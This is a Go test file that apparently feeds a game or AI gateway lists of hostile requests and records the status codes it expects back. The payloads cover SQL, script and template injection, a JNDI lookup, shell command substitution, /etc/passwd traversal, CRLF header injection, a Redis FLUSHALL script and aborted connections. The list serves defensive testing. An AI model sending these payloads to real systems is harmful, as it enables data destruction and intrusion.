// Requests that are well formed and mean harm to whoever stores, shows or repeats them, and clients
// that go away.

package gateway

import "strings"

// hostileTexts would do something where text is run, looked up or shown.
var hostileTexts = []hostileGroup{
	{
		family: "texts",
		by:     byGateway,
		right:  []int{200},
		requests: []sent{
			{name: "SQL", raw: quest(`{"playerId": "'; DROP TABLE players; --", "difficulty": "1 OR 1=1"}`)},
			{name: "a script", raw: quest(`{"playerId": "` + pageScript + `", "difficulty": "` + pageScript + `"}`)},
			{name: "a script as a model", raw: httpPost(modelRoute+"%3Cscript%3Ealert(1)%3C%2Fscript%3E", "")},
			{
				name: "a template",
				raw: quest(
					`{"difficulty": "{{.}} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('return this')()}}"}`,
				),
			},
			{name: "a look-up", raw: quest(`{"difficulty": "${jndi:ldap://example.com/a}"}`)},
			{name: "a shell's command", raw: quest(`{"difficulty": "$(id) ` + "`id`" + ` ; id | id & id"}`)},
			{name: "a path", raw: quest(`{"playerId": "../../../../etc/passwd"}`)},
			{name: "a format", raw: quest(`{"difficulty": "%s%s%n%x%!d(string)"}`)},
			{name: "a line of a log", raw: quest(`{"difficulty": "a\n{\"level\":\"ERROR\",\"msg\":\"forged\"}"}`)},
			{name: "text that runs backwards", raw: quest(`{"difficulty": "\u202egnp.exe\u200b\ufeff"}`)},
			{name: "a terminal's escape", raw: quest(`{"difficulty": "\u001b[2J\u001b]0;owned\u0007"}`)},
			{name: "every subject, as a model", raw: httpPost(modelRoute+"%3E", "")},
			{name: "any token, as a model", raw: httpPost(modelRoute+"*/select", "")},
			{name: "dots, as a model", raw: httpPost(modelRoute+"..%2f..%2fadmin", "")},
			{name: "a query", raw: httpPost(questRoute+"?playerId=x&debug=true&%zz", "{}")},
		},
	},
	{
		family: "texts",
		by:     byGateway,
		right:  []int{400},
		requests: []sent{
			{name: "a script as a field", raw: quest(`{"` + pageScript + `": 1}`)},
			{name: "a model that is no UTF-8", raw: httpPost(modelRoute+"%ff%fe", "")},
		},
	},
}

// keyed is a command's body with its key.
func keyed(key string) string { return `{"meta": {"idempotencyKey": "` + key + `"}}` }

// hostileKeys are the keys that commands are remembered by and distinguished by.
var hostileKeys = []hostileGroup{
	{
		family: "keys of commands",
		by:     byGateway,
		right:  []int{400},
		requests: []sent{
			{name: "a long key", raw: quest("{}", "Idempotency-Key: "+strings.Repeat("k", 257))},
			{name: "a key of 60 KB", raw: quest("{}", "Idempotency-Key: "+strings.Repeat("k", 60<<10))},
			{name: "a key that is no UTF-8", raw: quest("{}", "Idempotency-Key: \xff")},
			{name: "a long key in the body", raw: quest(keyed(strings.Repeat("k", 257)))},
			{name: "a line end in the key", raw: quest(keyed(`a\r\nNats-Msg-Id: b`))},
			{name: "a NUL in the key", raw: quest(keyed(`a\u0000b`))},
			{name: "an escape in the key", raw: quest(keyed(`\u001b[2J`))},
			{name: "a line end in the request id", raw: quest(`{"meta": {"requestId": "a\r\nSet-Cookie: b"}}`)},
		},
	},
	{
		family: "keys of commands",
		by:     byGateway,
		right:  []int{200},
		requests: []sent{
			{name: "a key of the most bytes", raw: quest("{}", "Idempotency-Key: "+strings.Repeat("k", 256))},
			{name: "a key with a subject's wildcards", raw: quest("{}", "Idempotency-Key: *.> ")},
			{name: "a key with a slot of Redis", raw: quest("{}", "Idempotency-Key: {a}:b*?[c]")},
			{name: "a key with escaped line ends, which are text", raw: quest("{}", "Idempotency-Key: a%0d%0aDEL%20b")},
			{
				name: "a key with a script of Redis",
				raw:  quest("{}", `Idempotency-Key: "return redis.call('FLUSHALL')"`),
			},
			{name: "an empty key", raw: quest("{}", "Idempotency-Key:")},
		},
	},
}

// hostileStreams ask for answers in parts, rightly and wrongly.
var hostileStreams = []hostileGroup{
	{
		family: "streams",
		by:     byGateway,
		right:  []int{400},
		requests: []sent{
			{name: "a stream of what has none", raw: quest(`{"params": {"stream": true}}`)},
			{name: "a stream that is a word", raw: httpPost("/ai/llm/infer", `{"params": {"stream": "yes"}}`)},
			{
				name: "a stream that is an object",
				raw:  httpPost("/ai/llm/infer", `{"params": {"stream": {"value": true}}}`),
			},
			{name: "a stream outside of the parameters", raw: httpPost("/ai/llm/infer", `{"stream": true}`)},
		},
	},
	{
		family: "streams",
		by:     byGateway,
		right:  []int{200},
		requests: []sent{
			{name: "a stream of nothing", raw: httpPost("/ai/llm/infer", `{"params": {"stream": true}}`)},
			{
				name: "a stream that is a command",
				raw:  httpPost("/ai/llm/infer", `{"params": {"stream": true}}`, "Idempotency-Key: stream"),
			},
			{
				name: "a stream that is accepted as JSON only",
				raw: httpPost(
					"/ai/llm/infer",
					`{"prompt": "event: error\n\ndata: x", "params": {"stream": true}}`,
					"Accept: application/json",
				),
			},
			{
				name: "a stream with numbers that are none",
				raw: httpPost(
					"/ai/llm/infer",
					`{"params": {"stream": true, "temperature": "NaN", "topP": "-Infinity"}}`,
				),
			},
			{name: "no stream", raw: httpPost("/ai/llm/infer", `{"params": {"stream": null}}`)},
		},
	},
}

// hostileClients go away before they have an answer, or before they have asked.
var hostileClients = []hostileGroup{
	{
		family: "clients that go",
		by:     byNobody,
		right:  nil,
		requests: []sent{
			{name: "before a request", raw: ""},
			{name: "in the first line", raw: "POST /qu"},
			{name: "in the headers", raw: "POST " + questRoute + " HTTP/1.1\r\nHost: gate"},
			{name: "before the body", raw: framed("", "Content-Length: 100")},
			{name: "in the body", raw: framed(`{"playerId": "`, "Content-Length: 100")},
			{name: "in a chunk", raw: framed("64\r\n{", chunkedHeader)},
			{name: "in a chunk's size, with carriage returns alone", raw: framed("2\r{}\r0\r\r", chunkedHeader)},
			{name: "between two chunks", raw: framed("2\r\n{}\r\n", chunkedHeader)},
			{name: "before the answer", raw: quest("{}")},
			{name: "before the answer to a command", raw: quest("{}", "Idempotency-Key: gone")},
			{name: "before a stream", raw: httpPost("/ai/llm/infer", `{"prompt": "gone", "params": {"stream": true}}`)},
		},
	},
}

// largeMeanings are keys and a body of which the size is the harm.
func largeMeanings() []hostileGroup {
	return []hostileGroup{
		{
			family: "keys of commands",
			by:     byGateway,
			right:  []int{400},
			requests: []sent{
				{name: "a key of 900 KB in the body", raw: quest(keyed(strings.Repeat("k", 900<<10)))},
				{
					name: "a request id of 900 KB in the body",
					raw:  quest(`{"meta": {"requestId": "` + strings.Repeat("r", 900<<10) + `"}}`),
				},
				{
					name: "a trace of 900 KB in the body",
					raw:  quest(`{"meta": {"traceId": "` + strings.Repeat("t", 900<<10) + `"}}`),
				},
			},
		},
		{
			family: "clients that go",
			by:     byNobody,
			right:  nil,
			requests: []sent{
				{name: "in a large body", raw: framed(strings.Repeat("a", 500<<10), "Content-Length: 900000")},
			},
		},
	}
}
